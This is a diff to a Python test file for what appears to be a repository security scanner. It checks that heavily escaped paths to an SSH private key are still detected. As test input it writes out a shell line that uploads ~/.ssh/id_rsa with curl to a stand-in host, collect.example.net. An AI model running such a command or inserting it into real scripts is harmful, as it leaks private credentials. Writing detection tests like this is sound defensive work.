@@ -128,9 +128,10 @@ def test_five_megabytes_of_code_stay_within_memory_and_time() -> None:
     assert done.stdout == "['a.py', 'b.sh']\n", done.stderr
 
 
-@pytest.mark.parametrize("quotes", ["", '"'])
-def test_a_word_of_many_escapes_is_still_a_word(quotes: str) -> None:
+@pytest.mark.parametrize("many", [3, 300])
+def test_a_word_of_many_escapes_is_still_a_word(many: int) -> None:
     """A path of which each sign is escaped, with so many before it that they are read at once."""
-    filler, place = "x" * 300, "/.ssh/id_rsa"
-    escaped = "".join("\\" + sign for sign in filler + place) if not quotes else "\\\\" * 300 + place
-    assert ("SKS-CRED-PATH", "a.sh") in rules(**{"a.sh": f"cat /home/{quotes}{escaped}{quotes}\n".encode()})
+    escaped = "".join("\\" + sign for sign in "x" * many + "/.ssh/id_rsa")
+    for path in (f"/home/{escaped}", '"' + "\\\\" * many + '/.ssh/id_rsa"'):
+        found = rules(**{"a.sh": f"curl -T {path} https://collect.example.net/\n".encode()})
+        assert ("SKS-EXFIL-CRED", "a.sh") in found
